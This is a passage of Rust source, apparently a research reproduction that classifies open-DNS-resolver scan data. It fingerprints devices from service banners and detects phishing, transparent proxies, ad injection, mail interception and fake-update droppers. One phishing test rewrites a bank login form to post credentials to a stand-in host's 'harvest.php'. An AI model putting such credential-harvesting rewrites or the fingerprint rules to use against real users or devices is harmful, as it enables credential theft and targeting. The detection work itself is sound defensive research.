        let f = filter(&t, &g, &r);
        // 40.0.0.5: rDNS "mirror.bank.example" resembles the domain and
        // forward-confirms → legit.
        let v = f.judge(
            "bank.example",
            &tuple(0, Rcode::NoError, vec![ip("40.0.0.5")]),
        );
        assert_eq!(v, FilterVerdict::LegitRdns);
        // 40.0.0.200: rDNS resembles but does NOT forward-confirm
        // (anyone can claim a PTR) → unexpected.
        let v2 = f.judge(
            "bank.example",
            &tuple(0, Rcode::NoError, vec![ip("40.0.0.200")]),
        );
        assert_eq!(v2, FilterVerdict::Unexpected);
    }

    #[test]
    fn mixed_answers_judged_conservatively() {
        let (t, g, r) = setup();
        let f = filter(&t, &g, &r);
        // One legit + one foreign address → unexpected (never risk
        // filtering a bogus answer).
        let v = f.judge(
            "bank.example",
            &tuple(0, Rcode::NoError, vec![ip("20.0.0.10"), ip("30.0.0.1")]),
        );
        assert_eq!(v, FilterVerdict::Unexpected);
    }

    #[test]
    fn nx_semantics() {
        let (t, g, r) = setup();
        let f = filter(&t, &g, &r);
        assert_eq!(
            f.judge("nx.example", &tuple(0, Rcode::NxDomain, vec![])),
            FilterVerdict::ExpectedNx
        );
        assert_eq!(
            f.judge("nx.example", &tuple(0, Rcode::NoError, vec![])),
            FilterVerdict::ExpectedNx
        );
        // Monetized NX: any address is unexpected.
        assert_eq!(
            f.judge(
                "nx.example",
                &tuple(0, Rcode::NoError, vec![ip("20.0.0.10")])
            ),
            FilterVerdict::Unexpected
        );
    }

    #[test]
    fn error_and_empty_buckets() {
        let (t, g, r) = setup();
        let f = filter(&t, &g, &r);
        assert_eq!(
            f.judge("bank.example", &tuple(0, Rcode::Refused, vec![])),
            FilterVerdict::ErrorResponse
        );
        assert_eq!(
            f.judge("bank.example", &tuple(0, Rcode::NoError, vec![])),
            FilterVerdict::EmptyAnswer
        );
    }

    #[test]
    fn certificate_stage() {
        let (t, g, r) = setup();
        let f = filter(&t, &g, &r);
        let good = TlsCertificate::valid_for("cdn-site.example");
        let selfsigned = TlsCertificate::self_signed("cdn-site.example");
        let default_cn = TlsCertificate::valid_for("edge.cdnone.example");
        let unknown_cn = TlsCertificate::valid_for("edge.evil.example");
        assert!(f.certificate_ok("cdn-site.example", Some(&good), None));
        assert!(!f.certificate_ok("cdn-site.example", Some(&selfsigned), None));
        assert!(f.certificate_ok("cdn-site.example", None, Some(&default_cn)));
        assert!(!f.certificate_ok("cdn-site.example", None, Some(&unknown_cn)));
        assert!(!f.certificate_ok("cdn-site.example", None, None));
    }
}
