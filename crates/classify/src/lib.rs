//! # classify — the *Going Wild* analysis pipeline
//!
//! The paper's primary contribution is not the scanning but what happens
//! to the scan data afterwards (Figure 3, steps 3–6):
//!
//! * [`prefilter`] — DNS-based prefiltering of `(domain ∘ ip ∘ resolver)`
//!   tuples: AS matching against trusted resolutions, confirmed rDNS,
//!   and HTTPS-certificate checks for CDN space (Sec. 3.4).
//! * [`cluster`] — agglomerative hierarchical clustering with average
//!   linkage (UPGMA) over the seven-feature page distance, implemented
//!   with the nearest-neighbor-chain algorithm; plus the fine-grained
//!   diff-based clustering of page *modifications* (Sec. 3.6).
//! * [`labeler`] — the rule encoding of the paper's manual cluster
//!   labeling: Blocking / Censorship / HTTP Error / Login / Misc /
//!   Parking / Search (Table 5).
//! * [`fingerprint`] — banner-token device fingerprinting (Table 4) and
//!   CHAOS version-string classification (Table 3).
//! * [`snoopclass`] — cache-snooping series classification into the
//!   Sec. 2.6 utilization classes, including the ≤5-second re-add
//!   inference from TTL arithmetic.
//! * [`censorship`] — landing-page aggregation, per-country compliance,
//!   and GFW double-response detection (Sec. 4.2).
//! * [`cases`] — the Sec. 4.3 case-study detectors: ad manipulation,
//!   transparent proxies, phishing, mail interception, malware droppers.

pub mod cases;
pub mod censorship;
pub mod cluster;
pub mod fingerprint;
pub mod labeler;
pub mod prefilter;
pub mod snoopclass;

pub use cluster::{
    cluster_pages, cluster_pages_with, fine_cluster, Dendrogram, FlatClusters, Linkage,
};
pub use fingerprint::{classify_version, fingerprint_device, SoftwareClass};
pub use labeler::{label_cluster, Label};
pub use prefilter::{CertRule, FilterVerdict, PreFilter, TrustedView};
pub use snoopclass::{classify_snoop, UtilizationClass};
