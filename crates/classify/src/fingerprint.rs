//! Device and software fingerprinting (Sec. 2.4, Tables 3–4).
//!
//! The paper hand-compiled >2,245 regular expressions against banner
//! corpora. This reproduction carries a token-rule table with the same
//! *structure* (token → device class + OS attribution); the table is
//! data, so extending it is adding rows, not code.

use resolversim::{DeviceClass, DeviceOs};
use scanner::BannerObservation;
use serde::{Deserialize, Serialize};

/// A fingerprint rule: if the corpus contains `token` (case-insensitive),
/// attribute the class/OS. Earlier rules win.
pub struct FingerprintRule {
    /// Case-insensitive substring to match.
    pub token: &'static str,
    /// Hardware class the token implies.
    pub class: Option<DeviceClass>,
    /// Operating system the token implies.
    pub os: Option<DeviceOs>,
}

/// The rule table. Ordering encodes specificity: exact device tokens
/// first, generic OS tokens last.
pub const RULES: &[FingerprintRule] = &[
    // Specific devices (the paper's worked example first).
    FingerprintRule {
        token: "dm500plus login",
        class: Some(DeviceClass::Dvr),
        os: Some(DeviceOs::Linux),
    },
    FingerprintRule {
        token: "zynos",
        class: Some(DeviceClass::Router),
        os: Some(DeviceOs::ZyNos),
    },
    FingerprintRule {
        token: "zyrouter",
        class: Some(DeviceClass::Router),
        os: Some(DeviceOs::ZyNos),
    },
    FingerprintRule {
        token: "rompager",
        class: Some(DeviceClass::Router),
        os: None,
    },
    FingerprintRule {
        token: "smartware",
        class: Some(DeviceClass::Router),
        os: Some(DeviceOs::SmartWare),
    },
    FingerprintRule {
        token: "routeros",
        class: Some(DeviceClass::Router),
        os: Some(DeviceOs::RouterOs),
    },
    FingerprintRule {
        token: "mikrotik",
        class: Some(DeviceClass::Router),
        os: Some(DeviceOs::RouterOs),
    },
    FingerprintRule {
        token: "adsl router",
        class: Some(DeviceClass::Router),
        os: None,
    },
    FingerprintRule {
        token: "router login",
        class: Some(DeviceClass::Router),
        os: None,
    },
    FingerprintRule {
        token: "netcam",
        class: Some(DeviceClass::Camera),
        os: None,
    },
    FingerprintRule {
        token: "network camera",
        class: Some(DeviceClass::Camera),
        os: None,
    },
    FingerprintRule {
        token: "dvr-webs",
        class: Some(DeviceClass::Dvr),
        os: None,
    },
    FingerprintRule {
        token: "nas4you",
        class: Some(DeviceClass::Nas),
        os: None,
    },
    FingerprintRule {
        token: "dslam",
        class: Some(DeviceClass::Dslam),
        os: None,
    },
    FingerprintRule {
        token: "fortresswall",
        class: Some(DeviceClass::Firewall),
        os: None,
    },
    FingerprintRule {
        token: "goahead-webs",
        class: Some(DeviceClass::Embedded),
        os: None,
    },
    FingerprintRule {
        token: "arduino",
        class: Some(DeviceClass::Embedded),
        os: None,
    },
    FingerprintRule {
        token: "raspberry",
        class: Some(DeviceClass::Embedded),
        os: None,
    },
    // OS attribution.
    FingerprintRule {
        token: "centos",
        class: None,
        os: Some(DeviceOs::CentOs),
    },
    FingerprintRule {
        token: "dropbear",
        class: None,
        os: Some(DeviceOs::Linux),
    },
    FingerprintRule {
        token: "(linux)",
        class: None,
        os: Some(DeviceOs::Linux),
    },
    FingerprintRule {
        token: "linux",
        class: None,
        os: Some(DeviceOs::Linux),
    },
    FingerprintRule {
        token: "freebsd",
        class: None,
        os: Some(DeviceOs::Unix),
    },
    FingerprintRule {
        token: "(unix)",
        class: None,
        os: Some(DeviceOs::Unix),
    },
    FingerprintRule {
        token: "microsoft-iis",
        class: None,
        os: Some(DeviceOs::Windows),
    },
    FingerprintRule {
        token: "microsoft telnet",
        class: None,
        os: Some(DeviceOs::Windows),
    },
    // Server-ish devices: IIS/Apache boxes with no device token.
    FingerprintRule {
        token: "vsftpd",
        class: None,
        os: Some(DeviceOs::Linux),
    },
];

/// The fingerprinting result for one host.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct DeviceFingerprint {
    /// Hardware class.
    pub class: DeviceClass,
    /// Operating system.
    pub os: DeviceOs,
}

/// Fingerprint one banner corpus.
pub fn fingerprint_device(obs: &BannerObservation) -> DeviceFingerprint {
    let corpus = obs.corpus().to_ascii_lowercase();
    let mut class = None;
    let mut os = None;
    for rule in RULES {
        if corpus.contains(rule.token) {
            if class.is_none() && rule.class.is_some() {
                class = rule.class;
            }
            if os.is_none() && rule.os.is_some() {
                os = rule.os;
            }
            if class.is_some() && os.is_some() {
                break;
            }
        }
    }
    // Hosts with recognizable server software but no device token stay
    // "Unknown" hardware — Table 4's large Unknown column is exactly
    // these (the paper could name the OS but not the box).
    let class = class.unwrap_or(DeviceClass::Unknown);
    DeviceFingerprint {
        class,
        os: os.unwrap_or(DeviceOs::Unknown),
    }
}

/// Classification of a CHAOS version string (Table 3).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum SoftwareClass {
    /// Recognized `family version` pair.
    Known {
        /// Software family, e.g. `"BIND"`.
        family: String,
        /// Version string.
        version: String,
    },
    /// A string that matches no known DNS software pattern —
    /// administrator-configured hiding (18.8% in the paper).
    Custom(String),
}

/// Known DNS software families and a loose version-shape check.
const FAMILIES: &[&str] = &[
    "BIND",
    "Unbound",
    "Dnsmasq",
    "PowerDNS",
    "MS DNS",
    "Nominum Vantio",
    "ZyWALL DNS",
];

/// Classify a `version.bind` answer string.
pub fn classify_version(s: &str) -> SoftwareClass {
    let trimmed = s.trim();
    for family in FAMILIES {
        if let Some(rest) = trimmed.strip_prefix(family) {
            let version = rest.trim();
            // A version must look like digits-and-dots.
            if !version.is_empty()
                && version.chars().all(|c| {
                    c.is_ascii_digit() || c == '.' || c == '-' || c.is_ascii_alphanumeric()
                })
                && version.chars().next().unwrap().is_ascii_digit()
            {
                return SoftwareClass::Known {
                    family: family.to_string(),
                    version: version.to_string(),
                };
            }
        }
    }
    // Bare "9.8.2"-style answers are BIND by convention.
    if !trimmed.is_empty()
        && trimmed.chars().next().unwrap().is_ascii_digit()
        && trimmed.chars().all(|c| c.is_ascii_digit() || c == '.')
        && trimmed.contains('.')
    {
        return SoftwareClass::Known {
            family: "BIND".to_string(),
            version: trimmed.to_string(),
        };
    }
    SoftwareClass::Custom(trimmed.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn obs(banners: &[(u16, &str)], http: Option<&str>) -> BannerObservation {
        BannerObservation {
            banners: banners.iter().map(|(p, s)| (*p, s.to_string())).collect(),
            http_body: http.map(|s| s.to_string()),
        }
    }

    #[test]
    fn paper_worked_example() {
        let o = obs(&[(23, "dm500plus login: unit42")], None);
        let f = fingerprint_device(&o);
        assert_eq!(f.class, DeviceClass::Dvr);
        assert_eq!(f.os, DeviceOs::Linux);
    }

    #[test]
    fn zynos_router() {
        let o = obs(
            &[(21, "220 ZyRouter FTP version 1.0 ready (ZyNOS) S/N 99")],
            None,
        );
        let f = fingerprint_device(&o);
        assert_eq!(f.class, DeviceClass::Router);
        assert_eq!(f.os, DeviceOs::ZyNos);
    }

    #[test]
    fn http_body_contributes() {
        let o = obs(
            &[],
            Some("<html><title>ZyRouter ZR-660 Web Configuration</title>..."),
        );
        let f = fingerprint_device(&o);
        assert_eq!(f.class, DeviceClass::Router);
    }

    #[test]
    fn os_only_hosts_have_unknown_hardware() {
        let o = obs(&[(22, "SSH-2.0-OpenSSH_5.3 CentOS")], None);
        let f = fingerprint_device(&o);
        assert_eq!(f.class, DeviceClass::Unknown);
        assert_eq!(f.os, DeviceOs::CentOs);
    }

    #[test]
    fn unrecognized_banners_unknown() {
        let o = obs(&[(21, "220 service ready (777)")], None);
        let f = fingerprint_device(&o);
        assert_eq!(f.class, DeviceClass::Unknown);
        assert_eq!(f.os, DeviceOs::Unknown);
    }

    #[test]
    fn version_strings_classified() {
        assert_eq!(
            classify_version("BIND 9.8.2"),
            SoftwareClass::Known {
                family: "BIND".into(),
                version: "9.8.2".into()
            }
        );
        assert_eq!(
            classify_version("Dnsmasq 2.52"),
            SoftwareClass::Known {
                family: "Dnsmasq".into(),
                version: "2.52".into()
            }
        );
        assert_eq!(
            classify_version("9.9.5"),
            SoftwareClass::Known {
                family: "BIND".into(),
                version: "9.9.5".into()
            }
        );
        assert_eq!(
            classify_version("none of your business"),
            SoftwareClass::Custom("none of your business".into())
        );
        assert_eq!(
            classify_version("get lost"),
            SoftwareClass::Custom("get lost".into())
        );
    }

    #[test]
    fn decoy_numeric_strings() {
        // "9.9.9" is a decoy in our custom list, but indistinguishable
        // from a real BIND version — the paper has the same ambiguity;
        // it lands in Known (conservative over-attribution).
        assert!(matches!(
            classify_version("9.9.9"),
            SoftwareClass::Known { .. }
        ));
    }
}
