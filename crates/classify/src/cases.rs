//! The Sec. 4.3 case-study detectors.
//!
//! Each detector consumes acquired content for unexpected tuples and
//! reports the specific abuse class with the evidence the paper cites.

use htmlsim::{tokenize, PageFeatures, TagInterner, Token};
use scanner::Acquired;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;

/// One unexpected tuple with its acquired content — the unit all
/// detectors work on.
#[derive(Debug, Clone)]
pub struct CaseRecord {
    /// Index of the resolver in the scanned fleet.
    pub resolver_idx: u32,
    /// The resolver's address at scan time.
    pub resolver_ip: Ipv4Addr,
    /// The queried domain.
    pub domain: String,
    /// The address the resolver answered with.
    pub target_ip: Ipv4Addr,
    /// Content fetched from that address.
    pub acquired: Acquired,
}

// ---------------------------------------------------------------------
// Transparent proxies
// ---------------------------------------------------------------------

/// Proxy findings (Sec. 4.3: 20 proxy IPs; 99 resolvers → 10 TLS IPs,
/// 10,179 resolvers → 10 HTTP-only IPs).
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct ProxyReport {
    /// Proxy addresses that forward valid TLS.
    pub tls_proxy_ips: BTreeSet<Ipv4Addr>,
    /// Proxy addresses refusing TLS (credential-exposure risk).
    pub http_only_proxy_ips: BTreeSet<Ipv4Addr>,
    /// Resolvers pointing at TLS-capable proxies.
    pub resolvers_via_tls: BTreeSet<u32>,
    /// Resolvers pointing at HTTP-only proxies.
    pub resolvers_via_http_only: BTreeSet<u32>,
}

/// Detect transparent proxies: a target IP that served the *original*
/// content (byte-equal to ground truth) for at least `min_domains`
/// distinct domains. TLS capability splits the two classes.
pub fn detect_proxies(
    records: &[CaseRecord],
    ground_truth_bodies: &BTreeMap<String, String>,
    min_domains: usize,
) -> ProxyReport {
    // target ip → set of domains it mirrored, TLS evidence, resolvers.
    struct Acc {
        mirrored: BTreeSet<String>,
        tls_ok: bool,
        any_tls_attempt: bool,
        resolvers: BTreeSet<u32>,
    }
    let mut by_ip: BTreeMap<Ipv4Addr, Acc> = BTreeMap::new();
    for r in records {
        let Some(http) = &r.acquired.http else {
            continue;
        };
        let Some(gt) = ground_truth_bodies.get(&r.domain) else {
            continue;
        };
        if http.status != 200 || &http.body != gt {
            continue;
        }
        let acc = by_ip.entry(r.target_ip).or_insert_with(|| Acc {
            mirrored: BTreeSet::new(),
            tls_ok: false,
            any_tls_attempt: false,
            resolvers: BTreeSet::new(),
        });
        acc.mirrored.insert(r.domain.clone());
        acc.resolvers.insert(r.resolver_idx);
        acc.any_tls_attempt = true;
        if let Some(page) = &r.acquired.https_sni {
            if page
                .certificate
                .as_ref()
                .map(|c| c.valid_chain && c.covers(&r.domain))
                .unwrap_or(false)
            {
                acc.tls_ok = true;
            }
        }
    }
    let mut report = ProxyReport::default();
    for (ip, acc) in by_ip {
        if acc.mirrored.len() < min_domains {
            continue;
        }
        if acc.tls_ok {
            report.tls_proxy_ips.insert(ip);
            report.resolvers_via_tls.extend(acc.resolvers);
        } else {
            report.http_only_proxy_ips.insert(ip);
            report.resolvers_via_http_only.extend(acc.resolvers);
        }
    }
    report
}

// ---------------------------------------------------------------------
// Phishing
// ---------------------------------------------------------------------

/// One phishing finding.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PhishFinding {
    /// The phishing host.
    pub target_ip: Ipv4Addr,
    /// The impersonated domain.
    pub domain: String,
    /// Resolvers directing clients there.
    pub resolvers: BTreeSet<u32>,
    /// Evidence tokens (image-kit structure, foreign form action,
    /// self-signed certificate).
    pub evidence: Vec<String>,
}

/// Detect phishing hosts: content impersonating a specific domain with
/// credential capture re-pointed at attacker infrastructure.
pub fn detect_phishing(
    records: &[CaseRecord],
    ground_truth_bodies: &BTreeMap<String, String>,
) -> Vec<PhishFinding> {
    let mut by_key: BTreeMap<(Ipv4Addr, String), PhishFinding> = BTreeMap::new();
    for r in records {
        let Some(http) = &r.acquired.http else {
            continue;
        };
        if http.status != 200 {
            continue;
        }
        let mut evidence = Vec::new();

        // Structure: the 46-<img> + POST-form kit.
        let mut interner = TagInterner::new();
        let features = PageFeatures::extract(&http.body, &mut interner);
        let imgs = features.count_of("img", &interner);
        let forms = features.count_of("form", &interner);
        if imgs >= 30 && forms >= 1 {
            evidence.push(format!("image-kit structure ({imgs} img tags + form)"));
        }

        // Credential form posting to a foreign host / php collector.
        if let Some(action) = form_action(&http.body) {
            let foreign = action.starts_with("http://") || action.starts_with("https://");
            let foreign_host = foreign && !action.contains(&r.domain);
            if foreign_host && (action.ends_with(".php") || action.contains(".php")) {
                evidence.push(format!("credential form posts to {action}"));
            } else if foreign_host
                && forms >= 1
                && body_mimics(&http.body, ground_truth_bodies.get(&r.domain))
            {
                evidence.push(format!("cloned page posts to {action}"));
            }
        }

        // Self-signed TLS on an impersonated domain.
        if let Some(page) = &r.acquired.https_sni {
            if let Some(cert) = &page.certificate {
                if !cert.valid_chain {
                    evidence.push("self-signed certificate".to_string());
                }
            }
        }

        if evidence.is_empty() {
            continue;
        }
        let entry = by_key
            .entry((r.target_ip, r.domain.clone()))
            .or_insert_with(|| PhishFinding {
                target_ip: r.target_ip,
                domain: r.domain.clone(),
                resolvers: BTreeSet::new(),
                evidence: Vec::new(),
            });
        entry.resolvers.insert(r.resolver_idx);
        for e in evidence {
            if !entry.evidence.contains(&e) {
                entry.evidence.push(e);
            }
        }
    }
    by_key.into_values().collect()
}

/// Extract the first `<form … action="…">` value.
fn form_action(body: &str) -> Option<String> {
    for token in tokenize(body) {
        if let Token::Open { name, attrs, .. } = token {
            if name == "form" {
                for (k, v) in attrs {
                    if k == "action" {
                        return Some(v);
                    }
                }
            }
        }
    }
    None
}

/// Whether `body` is structurally close to the ground truth (>60% of
/// opening tags shared).
fn body_mimics(body: &str, gt: Option<&String>) -> bool {
    let Some(gt) = gt else { return false };
    let mut interner = TagInterner::new();
    let a = PageFeatures::extract(body, &mut interner);
    let b = PageFeatures::extract(gt, &mut interner);
    htmlsim::distance::jaccard_multiset(&a.tag_multiset, &b.tag_multiset) < 0.4
}

// ---------------------------------------------------------------------
// Ad manipulation
// ---------------------------------------------------------------------

/// Ad-traffic manipulation classes (Sec. 4.3).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum AdManipulation {
    /// Banners injected into the provider's page.
    InjectedBanner,
    /// Suspicious JavaScript injected.
    InjectedScript,
    /// Ads replaced with empty placeholders.
    BlankedAds,
    /// A search-page mimicry with embedded ads.
    FakeSearchFront,
}

/// Findings per manipulation class.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct AdReport {
    /// Manipulating addresses per class.
    pub by_class: BTreeMap<AdManipulation, BTreeSet<Ipv4Addr>>,
    /// Participating resolvers per class.
    pub resolvers: BTreeMap<AdManipulation, BTreeSet<u32>>,
}

/// Detect manipulated ad-provider responses by diffing against ground
/// truth.
pub fn detect_ad_manipulation(
    records: &[CaseRecord],
    ground_truth_bodies: &BTreeMap<String, String>,
) -> AdReport {
    let mut report = AdReport::default();
    for r in records {
        let Some(http) = &r.acquired.http else {
            continue;
        };
        let Some(gt) = ground_truth_bodies.get(&r.domain) else {
            continue;
        };
        if http.status != 200 || &http.body == gt {
            continue;
        }
        let body = &http.body;
        let lower = body.to_ascii_lowercase();
        let class = if lower.contains("did you mean") && lower.contains("search") {
            Some(AdManipulation::FakeSearchFront)
        } else if body_mimics(body, Some(gt)) {
            // Injection classes require the page to still *be* the ad
            // provider's page — unrelated redirect targets (error pages,
            // misc sites) have their own src attributes and must not
            // count as injections.
            let gt_srcs = src_hosts(gt);
            let srcs = src_hosts(body);
            let added: Vec<&String> = srcs.difference(&gt_srcs).collect();
            let removed: Vec<&String> = gt_srcs.difference(&srcs).collect();
            let added_script = script_srcs(body)
                .difference(&script_srcs(gt))
                .next()
                .is_some();
            if body.contains("/blank.gif") && !removed.is_empty() {
                Some(AdManipulation::BlankedAds)
            } else if added_script {
                Some(AdManipulation::InjectedScript)
            } else if !added.is_empty() {
                Some(AdManipulation::InjectedBanner)
            } else {
                None
            }
        } else {
            None
        };
        if let Some(class) = class {
            report
                .by_class
                .entry(class)
                .or_default()
                .insert(r.target_ip);
            report
                .resolvers
                .entry(class)
                .or_default()
                .insert(r.resolver_idx);
        }
    }
    report
}

fn src_hosts(body: &str) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    for token in tokenize(body) {
        if let Token::Open { attrs, .. } = token {
            for (k, v) in attrs {
                if k == "src" {
                    out.insert(v);
                }
            }
        }
    }
    out
}

fn script_srcs(body: &str) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    for token in tokenize(body) {
        if let Token::Open { name, attrs, .. } = token {
            if name == "script" {
                for (k, v) in attrs {
                    if k == "src" {
                        out.insert(v);
                    }
                }
            }
        }
    }
    out
}

// ---------------------------------------------------------------------
// Mail interception
// ---------------------------------------------------------------------

/// Mail findings (Sec. 4.3: 64.7% of MX-suspicious resolvers → 1,135
/// listening IPs; 8 resolvers → banner clones).
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct MailReport {
    /// IPs listening on mail ports for redirected MX hostnames.
    pub listening_ips: BTreeSet<Ipv4Addr>,
    /// IPs whose banners match a legitimate provider's banners —
    /// the suspicious clones.
    pub clone_ips: BTreeSet<Ipv4Addr>,
    /// Resolvers redirecting mail hostnames.
    pub resolvers: BTreeSet<u32>,
}

/// Detect mail interception. `legit_banners` are the banner strings of
/// the real providers.
pub fn detect_mail_interception(
    records: &[CaseRecord],
    legit_banners: &BTreeSet<String>,
) -> MailReport {
    let mut report = MailReport::default();
    for r in records {
        if r.acquired.mail_banners.is_empty() {
            continue;
        }
        report.listening_ips.insert(r.target_ip);
        report.resolvers.insert(r.resolver_idx);
        if r.acquired
            .mail_banners
            .iter()
            .any(|(_, b)| legit_banners.contains(b))
        {
            report.clone_ips.insert(r.target_ip);
        }
    }
    report
}

// ---------------------------------------------------------------------
// Malware droppers
// ---------------------------------------------------------------------

/// Fake-update malware findings (Sec. 4.3: 228 resolvers → 30 IPs).
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct MalwareReport {
    /// Fake-update hosts serving executables.
    pub dropper_ips: BTreeSet<Ipv4Addr>,
    /// Resolvers directing clients there.
    pub resolvers: BTreeSet<u32>,
}

/// Detect fake-update dropper pages: update-themed content offering an
/// executable download.
pub fn detect_malware_updates(records: &[CaseRecord]) -> MalwareReport {
    let mut report = MalwareReport::default();
    for r in records {
        let Some(http) = &r.acquired.http else {
            continue;
        };
        let body = http.body.to_ascii_lowercase();
        if (body.contains("out of date")
            || body.contains("update required")
            || body.contains("install update"))
            && body.contains(".exe")
        {
            report.dropper_ips.insert(r.target_ip);
            report.resolvers.insert(r.resolver_idx);
        }
    }
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use htmlsim::gen::{self, PageCtx, SiteCategory};
    use scanner::FetchedPage;

    fn ip(s: &str) -> Ipv4Addr {
        s.parse().unwrap()
    }

    fn fetched(status: u16, body: &str) -> FetchedPage {
        FetchedPage {
            status,
            body: body.to_string(),
            certificate: None,
            redirects: 0,
            final_host: "h".into(),
            final_ip: ip("9.9.9.9"),
        }
    }

    fn rec(resolver: u32, domain: &str, target: &str, http_body: Option<&str>) -> CaseRecord {
        CaseRecord {
            resolver_idx: resolver,
            resolver_ip: ip("5.5.5.5"),
            domain: domain.to_string(),
            target_ip: ip(target),
            acquired: Acquired {
                http: http_body.map(|b| fetched(200, b)),
                https_sni: None,
                https_nosni: None,
                mail_banners: Vec::new(),
            },
        }
    }

    #[test]
    fn proxies_need_multiple_domains_and_identity() {
        let gt_a = gen::legit_site(
            SiteCategory::Banking,
            &PageCtx::new("a.example", htmlsim::gen::PageCtx::new("a.example", 0).seed),
        );
        // Use the shared legit_content convention instead: identical
        // bodies keyed by domain.
        let mut gts = BTreeMap::new();
        gts.insert("a.example".to_string(), "BODY-A".to_string());
        gts.insert("b.example".to_string(), "BODY-B".to_string());
        gts.insert("c.example".to_string(), "BODY-C".to_string());
        let _ = gt_a;

        let records = vec![
            rec(1, "a.example", "30.0.0.1", Some("BODY-A")),
            rec(1, "b.example", "30.0.0.1", Some("BODY-B")),
            rec(2, "c.example", "30.0.0.1", Some("BODY-C")),
            // A host mirroring only one domain is not a proxy.
            rec(3, "a.example", "30.0.0.2", Some("BODY-A")),
            // A host serving different content is not a proxy.
            rec(4, "a.example", "30.0.0.3", Some("OTHER")),
        ];
        let report = detect_proxies(&records, &gts, 2);
        assert!(report.http_only_proxy_ips.contains(&ip("30.0.0.1")));
        assert!(!report.http_only_proxy_ips.contains(&ip("30.0.0.2")));
        assert!(!report.http_only_proxy_ips.contains(&ip("30.0.0.3")));
        assert_eq!(
            report.resolvers_via_http_only,
            [1u32, 2].into_iter().collect()
        );
    }

    #[test]
    fn phishing_kit_detected() {
        let kit = gen::phishing_kit_images("paypal", &PageCtx::new("paypal.example", 1));
        let records = vec![rec(7, "paypal.example", "40.0.0.1", Some(&kit))];
        let gts = BTreeMap::new();
        let findings = detect_phishing(&records, &gts);
        assert_eq!(findings.len(), 1);
        assert!(findings[0].evidence.iter().any(|e| e.contains("image-kit")));
        assert!(findings[0]
            .evidence
            .iter()
            .any(|e| e.contains("collect.php")));
        assert!(findings[0].resolvers.contains(&7));
    }

    #[test]
    fn bank_clone_detected() {
        let gt = gen::legit_site(
            SiteCategory::Banking,
            &PageCtx::new(
                "bank.example",
                htmlsim::gen::PageCtx::new("bank.example", 0).seed,
            ),
        );
        // The clone generator rewrites the form action.
        let clone = gt.replace(
            "https://bank.example/login",
            "http://203.0.113.66/cgi/harvest.php",
        );
        let mut gts = BTreeMap::new();
        gts.insert("bank.example".to_string(), gt);
        let records = vec![rec(9, "bank.example", "41.0.0.1", Some(&clone))];
        let findings = detect_phishing(&records, &gts);
        assert_eq!(findings.len(), 1, "clone with foreign php action");
    }

    #[test]
    fn legit_content_not_phishing() {
        let gt = gen::legit_site(SiteCategory::Banking, &PageCtx::new("bank.example", 3));
        let mut gts = BTreeMap::new();
        gts.insert("bank.example".to_string(), gt.clone());
        let records = vec![rec(9, "bank.example", "41.0.0.1", Some(&gt))];
        assert!(detect_phishing(&records, &gts).is_empty());
    }

    #[test]
    fn ad_manipulation_classes() {
        let gt = gen::legit_site(SiteCategory::Ads, &PageCtx::new("adnet.example", 5));
        let injected = gen::inject_ad(&gt, "ads.rogue.example");
        let scripted = gen::inject_script(&gt, "js.rogue.example");
        let fake = gen::search_page("Google", true, &PageCtx::new("adnet.example", 5));
        let mut gts = BTreeMap::new();
        gts.insert("adnet.example".to_string(), gt);
        let records = vec![
            rec(1, "adnet.example", "50.0.0.1", Some(&injected)),
            rec(2, "adnet.example", "50.0.0.2", Some(&scripted)),
            rec(3, "adnet.example", "50.0.0.3", Some(&fake)),
        ];
        let report = detect_ad_manipulation(&records, &gts);
        assert!(report.by_class[&AdManipulation::InjectedBanner].contains(&ip("50.0.0.1")));
        assert!(report.by_class[&AdManipulation::InjectedScript].contains(&ip("50.0.0.2")));
        assert!(report.by_class[&AdManipulation::FakeSearchFront].contains(&ip("50.0.0.3")));
    }

    #[test]
    fn mail_interception_and_clones() {
        let legit: BTreeSet<String> = ["220 smtp.gmail.example ESMTP ready".to_string()]
            .into_iter()
            .collect();
        let mut r1 = rec(1, "smtp.gmail.example", "60.0.0.1", None);
        r1.acquired.mail_banners = vec![("smtp".into(), "220 mail-relay-3 ESMTP".into())];
        let mut r2 = rec(2, "smtp.gmail.example", "60.0.0.2", None);
        r2.acquired.mail_banners =
            vec![("smtp".into(), "220 smtp.gmail.example ESMTP ready".into())];
        let r3 = rec(3, "smtp.gmail.example", "60.0.0.3", None);
        let report = detect_mail_interception(&[r1, r2, r3], &legit);
        assert_eq!(report.listening_ips.len(), 2);
        assert_eq!(report.clone_ips, [ip("60.0.0.2")].into_iter().collect());
    }

    #[test]
    fn malware_droppers_detected() {
        let page = gen::fake_update_page("Flash", &PageCtx::new("update.adobe.example", 2));
        let records = vec![
            rec(1, "update.adobe.example", "70.0.0.1", Some(&page)),
            rec(
                2,
                "update.adobe.example",
                "70.0.0.2",
                Some("<html>plain</html>"),
            ),
        ];
        let report = detect_malware_updates(&records);
        assert_eq!(report.dropper_ips, [ip("70.0.0.1")].into_iter().collect());
    }
}
