//! Cluster labeling (Sec. 3.6 step 6 / Table 5).
//!
//! The paper labeled clusters manually; the criteria it reports are
//! encoded here as rules evaluated on a cluster's exemplar pages.
//! Label priority follows the paper's semantics: censorship and
//! blocking language outranks generic login/search/parking cues, and
//! HTTP errors are recognized by status code or error-page idiom.

use serde::{Deserialize, Serialize};

/// Table 5's seven labels.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Label {
    /// Protection-provider / parental-control block pages.
    Blocking,
    /// State censorship landing pages (court/authority language).
    Censorship,
    /// 4xx/5xx and error-page idioms.
    HttpError,
    /// Router/camera/captive-portal/webmail logins.
    Login,
    /// Everything unmatched (personal/shopping sites, …).
    Misc,
